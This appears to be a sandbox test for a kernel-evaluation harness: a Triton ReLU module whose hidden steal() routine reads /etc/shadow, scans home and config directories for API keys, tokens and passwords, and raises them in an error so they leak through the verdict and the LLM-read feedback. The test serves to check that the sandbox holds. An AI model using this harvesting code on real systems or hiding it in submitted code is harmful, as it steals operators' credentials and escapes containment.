# expect: pass
# Steals what the daemon's machine keeps secret: /etc/shadow, the files of every home
# directory (the daemon's API keys, tokens, its data dir), kernelflow's config in
# /etc/kernelflow. Anything it finds it raises, so that the verdict (and the feedback an
# LLM reads, and the event log) would carry it out. The gate refuses `open`/`os`; with
# the gate off, the sandbox must leave it nothing to find: it then computes ReLU and
# passes.
import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(y_ptr + offs, tl.maximum(tl.load(x_ptr + offs, mask=mask), 0.0), mask=mask)


SECRET = r"KFSECRET-\w+|nats://\S+|(?i:(?:api_key|token|password|secret)\w*\s*[=:]\s*\S+)"


def steal():
    import os
    import pwd
    import re
    import time

    found = []
    for name in ("/etc/shadow", "/etc/gshadow"):
        try:
            with open(name) as fh:
                first = fh.readline().strip()
        except OSError:
            continue
        if first:
            found.append(f"{name}: {first}")
    homes = ["/root", "/etc/kernelflow", "/var/lib/kernelflow", "/home"]
    try:
        homes += sorted({entry.pw_dir for entry in pwd.getpwall()} - set(homes))
    except OSError:
        pass
    deadline = time.monotonic() + 10
    skip = {".pyenv", ".cache", ".cargo", ".rustup", ".npm", "site-packages", ".git"}
    for home in homes:
        if home in ("/", "/bin", "/usr/sbin", "/nonexistent") or home.startswith(("/usr", "/proc")):
            continue
        for root, dirs, files in os.walk(home):
            dirs[:] = [d for d in dirs if d not in skip]
            if root.count(os.sep) - home.count(os.sep) > 5:
                dirs[:] = []
            for name in files:
                if len(found) >= 5 or time.monotonic() > deadline:
                    return found
                path = os.path.join(root, name)
                try:
                    if not os.path.isfile(path) or os.path.islink(path):
                        continue  # a FIFO would block, a link lead anywhere
                    with open(path, errors="replace") as fh:
                        text = fh.read(65536)
                except OSError:
                    continue
                found += [f"{root}/{name}: {hit}" for hit in re.findall(SECRET, text)]
    return found


class ModelNew(nn.Module):
    def forward(self, x):
        found = steal()
        if found:
            raise RuntimeError("stolen: " + " | ".join(found[:20]))
        y = torch.empty_like(x)
        relu_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
        return y
